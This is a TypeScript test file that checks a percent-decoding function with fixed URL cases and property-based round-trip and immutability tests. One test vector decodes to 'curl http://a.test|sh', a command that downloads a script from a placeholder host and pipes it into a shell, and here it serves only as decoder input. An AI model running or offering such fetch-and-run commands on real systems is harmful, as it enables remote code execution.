import test from 'ava';
import * as fc from 'fast-check';
import { percentDecode } from '../../src/wire/url-text.ts';

function decode(text: string): string | undefined {
  const decoded = percentDecode(Buffer.from(text, 'latin1'));
  return decoded === undefined ? undefined : Buffer.from(decoded).toString('latin1');
}

const TARGETS: readonly (readonly [text: string, decoded: string | undefined])[] = [
  ['', undefined],
  ['/', undefined],
  ['/plain/path?a=b', undefined],
  ['/a%20b', '/a b'],
  ['%41%4b%49%4A', 'AKIJ'],
  ['/a+b', undefined],
  ['/a+b?c+d', '/a+b?c d'],
  ['/a+b%3Fc+d', '/a+b?c+d'],
  ['?+', '? '],
  ['+?', undefined],
  ['/x?cmd=curl+http%3A%2F%2Fa.test%7Csh', '/x?cmd=curl http://a.test|sh'],
  ['/%', undefined],
  ['/%4', undefined],
  ['/%4g%g4%%', undefined],
  ['/%%41', '/%A'],
  ['/%2541', '/%41'],
  ['/%00%ff', '/\0\xff'],
  ['/%4%41', '/%4A'],
];

for (const [text, decoded] of TARGETS) {
  test(`${JSON.stringify(text)} decodes to ${JSON.stringify(decoded)}`, (t) => {
    t.is(decode(text), decoded);
  });
}

test('what encodeURIComponent wrote is read back', (t) => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const written = Buffer.from(encodeURIComponent(text));
      return Buffer.from(percentDecode(written) ?? written).toString() === text;
    }),
    { numRuns: 300 },
  );
  t.pass();
});

test('any bytes give nothing, or something else that is no longer; the input stays as it was', (t) => {
  const near = fc
    .string({ unit: fc.constantFrom(...Array.from('%+?4aG/')), maxLength: 60 })
    .map((text) => Buffer.from(text));
  const noise = fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes));
  fc.assert(
    fc.property(fc.oneof(noise, near), (bytes) => {
      const before = Buffer.from(bytes);
      const decoded = percentDecode(bytes);
      if (!before.equals(bytes)) return false;
      return decoded === undefined || (decoded.length <= bytes.length && !bytes.equals(decoded));
    }),
    { numRuns: 300 },
  );
  t.pass();
});
